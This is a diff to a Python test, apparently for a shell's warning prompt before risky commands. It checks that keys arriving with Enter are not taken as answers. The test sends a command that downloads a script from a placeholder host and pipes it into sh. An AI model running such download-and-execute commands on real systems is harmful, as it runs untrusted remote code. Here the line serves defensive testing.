@@ -110,8 +110,9 @@ def test_family5_continuation(shell, tmp_path, paste):
 def test_family6_keys_sent_with_enter_are_never_the_answer(shell, tmp_path):
     marker = tmp_path / "marker"
     t = shell()
-    # warned (download piped into a shell); `y` and `t` arrive with the Enter
-    t.send_text(f"curl -fsS http://example.invalid/i.sh | sh; touch {marker}")
+    # warned (download piped into a shell; https: plain http piped to a shell is
+    # refused outright); `y` and `t` arrive with the Enter
+    t.send_text(f"curl -fsS https://example.invalid/i.sh | sh; touch {marker}")
     t.send_keys("Enter", "y", "t")
     t.wait_for(r"\[y\]es / \[t\]rust / cancel\?")
     # (give a wrongly taken answer every chance to run the line)
